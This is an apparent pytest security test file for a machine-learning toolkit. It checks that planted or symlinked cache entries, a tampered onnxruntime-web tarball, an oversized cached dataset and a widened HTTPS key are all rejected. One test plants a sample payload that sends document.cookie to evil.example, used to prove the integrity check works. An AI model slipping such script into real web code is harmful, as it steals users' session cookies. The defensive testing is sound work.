"""Hostile input, round 4: caches turned against the user. A cache is trusted only as far as it
can be checked again at once: a planted or linked probe pass is not a pass, an edited
onnxruntime-web bundle is never shipped, a cached mnist-5k file replaced by gigabytes is not
read to find out, and `serve --https` never widens or follows its private key."""

import base64
import hashlib
import io
import os
import subprocess
import sys
import tarfile

import pytest

from conftest import ROOT, run_cli
from runtime.backends.probe_cache import SECRET_NAME, ProbeCache, probe_key

MODEL = "mnist_mlp_int8.tflite"
MAX_PEAK_MIB = 300
"""A process that must not read a huge cached file stays far below this."""


@pytest.fixture
def unlisted(pipeline, tmp_path):
    """The int8 model copied out of its models folder: no manifest vouches for it."""
    path = tmp_path / "unlisted" / "model.tflite"
    path.parent.mkdir()
    path.write_bytes((pipeline.models / MODEL).read_bytes())
    return path


def test_a_planted_or_linked_probe_pass_is_not_a_pass(unlisted, tmp_path):
    key = probe_key(unlisted, "litert")
    folder = tmp_path / "probed"
    folder.mkdir(mode=0o700)
    (folder / key).write_bytes(b"")  # named by the computable key, as anyone can
    assert not ProbeCache(folder).passed(key)
    cache = ProbeCache(folder)
    cache.remember(key)  # what a real pass writes: the key's HMAC under a secret only the user can read
    assert ProbeCache(folder).passed(key) and len((folder / key).read_bytes()) == 64
    assert (folder / SECRET_NAME).stat().st_mode & 0o777 == 0o600

    other = tmp_path / "other"
    other.mkdir(mode=0o700)
    ProbeCache(other).remember(key)  # a pass recorded under another secret
    (folder / key).write_bytes((other / key).read_bytes())
    assert not ProbeCache(folder).passed(key)

    os.unlink(folder / key)
    os.symlink(other / key, folder / key)  # the entry a link
    assert not ProbeCache(folder).passed(key)

    linked = tmp_path / "linked"
    os.symlink(other, linked)  # the whole folder a link to one whose entries are valid there
    assert ProbeCache(other).passed(key) and not ProbeCache(linked).passed(key)
    ProbeCache(linked).remember("another key")
    assert not (other / "another key").exists()  # nothing is written through the link either

    os.chmod(other, 0o777)  # a folder others can write to
    assert not ProbeCache(other).passed(key)


def test_a_planted_pass_makes_the_cli_probe_the_file_all_the_same(unlisted, tmp_path):
    cache = tmp_path / "cache"
    (cache / "probed").mkdir(parents=True, mode=0o700)
    key = probe_key(unlisted, "litert")
    (cache / "probed" / key).write_bytes(b"")
    result = run_cli("runtime", "info", unlisted, env={"EDGE_MNIST_CACHE": str(cache)})
    assert result.returncode == 0, result.stderr
    assert len((cache / "probed" / key).read_bytes()) == 64  # the child checked the file, then the pass was recorded


@pytest.mark.slow
def test_a_planted_pass_never_lets_a_crashing_file_crash_the_process(pipeline, tmp_path):
    """The LiteRT-crashing mutant of tests/test_hostile_models.py, with an empty file planted
    under its key (and the folder a link): still one `error:` line, no signal."""
    from mutants import tflite_structural_mutants
    from test_hostile_models import BARE_LITERT

    data = (pipeline.models / MODEL).read_bytes()
    path = tmp_path / "crashing.tflite"
    for name, mutant in tflite_structural_mutants(data):
        if not name.endswith("buffer -> weights"):
            continue
        path.write_bytes(mutant)
        direct = subprocess.run([sys.executable, "-c", BARE_LITERT, str(path)], capture_output=True, timeout=60)
        if direct.returncode < 0:
            break
    else:
        pytest.fail("no aliased-buffer mutant crashed a bare LiteRT")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    (elsewhere / probe_key(path, "litert")).write_bytes(b"")
    cache = tmp_path / "cache"
    cache.mkdir()
    os.symlink(elsewhere, cache / "probed")
    for command in ("info", "predict"):
        args = [path] if command == "info" else [ROOT / "docs" / "missing.png", "--model", path]
        result = run_cli("runtime", command, *args, env={"EDGE_MNIST_CACHE": str(cache)})
        assert result.returncode == 2, (command, result.returncode, result.stderr[-1000:])
        assert result.stderr.strip().splitlines()[-1].startswith(f"error: {path}: the litert interpreter crashed")


def _npm_tarball(bundle: bytes) -> bytes:
    """An npm-style tarball holding the page's two onnxruntime-web files."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, data in (("ort.wasm.bundle.min.mjs", bundle), ("ort-wasm-simd-threaded.wasm", b"\0asm" + bytes(60))):
            info = tarfile.TarInfo(f"package/dist/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_an_edited_onnxruntime_web_cache_is_never_shipped(tmp_path, monkeypatch):
    import convert.web as web
    from runtime.workstation.downloads import PinnedFile

    bundle = b"export const ort = 'the real bundle';\n"
    source = tmp_path / "registry" / "onnxruntime-web.tgz"
    source.parent.mkdir()
    source.write_bytes(_npm_tarball(bundle))
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(source.read_bytes()).digest()).decode()
    pin = PinnedFile(what="onnxruntime-web (test)", url=source.as_uri(), digest=integrity,
                     cache_name="onnxruntime-web/onnxruntime-web-9.9.9.tgz", max_bytes=1 << 20)
    monkeypatch.setenv("EDGE_MNIST_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(web, "CHECKOUT_WEB", tmp_path / "no-checkout")  # as after a wheel install: no node_modules
    monkeypatch.setattr(web, "ort_pin", lambda _: ("9.9.9", pin))

    def shipped() -> bytes:
        target = tmp_path / f"page{len(list(tmp_path.glob('page*')))}"
        target.mkdir()
        assert web.ort_files(target, log=lambda _: None) == "9.9.9"
        return (target / "ort.wasm.bundle.min.mjs").read_bytes()

    assert shipped() == bundle
    cached = tmp_path / "cache" / pin.cache_name
    edited = _npm_tarball(bundle + b"fetch('https://evil.example/' + document.cookie);\n")
    cached.write_bytes(edited)
    assert shipped() == bundle  # the edited tarball failed its sha512: fetched again
    extracted = tmp_path / "cache" / "onnxruntime-web" / "9.9.9"  # where earlier versions kept the two files
    extracted.mkdir(parents=True)
    (extracted / "ort.wasm.bundle.min.mjs").write_bytes(b"alert('edited');\n")
    assert shipped() == bundle
    cached.write_bytes(edited)
    source.unlink()  # and the registry unreachable: refused, nothing shipped
    with pytest.raises(web.WebBuildError, match=r"onnxruntime-web 9\.9\.9, which is not cached"):
        shipped()


def test_a_huge_cached_file_is_not_read_to_check_it(tmp_path):
    """The mnist-5k cache replaced by a 4 GiB sparse file: not hashed (its size says it is not
    the file), and with the network unreachable the message says the cached copy differs."""
    cache = tmp_path / "cache"
    cached = cache / "mnist-5k" / "mnist_5k.csv.gz"
    cached.parent.mkdir(parents=True)
    with open(cached, "wb") as f:
        f.truncate(4 << 30)
    code = ("from train.data import DataError, mnist_5k_path\n"
            "try:\n    mnist_5k_path(log=lambda _: None)\nexcept DataError as err:\n    print(err)\n"
            "print(next(int(line.split()[1]) for line in open('/proc/self/status') if line.startswith('VmHWM:')) // 1024)\n")
    env = dict(os.environ, EDGE_MNIST_CACHE=str(cache), https_proxy="http://127.0.0.1:9", HTTPS_PROXY="http://127.0.0.1:9",
               PYTHONPATH=str(ROOT))
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, cwd=tmp_path, timeout=120)
    assert result.returncode == 0, result.stderr[-2000:]
    message, peak_mib = result.stdout.strip().splitlines()
    assert message.startswith(f"the cached mnist-5k data ({cached}) is not the pinned file (changed or damaged"), message
    assert int(peak_mib) < MAX_PEAK_MIB and cached.stat().st_size == 4 << 30


def test_the_https_key_is_never_widened_nor_written_through_a_link(tmp_path):
    pytest.importorskip("cryptography")
    from runtime.apps.certificate import self_signed

    folder = tmp_path / "https"
    made = self_signed(["127.0.0.1"], folder)
    assert made.key.stat().st_mode & 0o777 == 0o600 and folder.stat().st_mode & 0o777 == 0o700
    os.chmod(made.key, 0o644)  # someone widened it: a new key, private again
    again = self_signed(["127.0.0.1"], folder)
    assert again.created and again.key.stat().st_mode & 0o777 == 0o600
    victim = tmp_path / "victim.txt"
    victim.write_text("the user's file")
    os.unlink(again.key)
    os.symlink(victim, again.key)  # a link where the key was: replaced, not followed
    third = self_signed(["127.0.0.1"], folder)
    assert third.created and not third.key.is_symlink() and third.key.stat().st_mode & 0o777 == 0o600
    assert victim.read_text() == "the user's file"
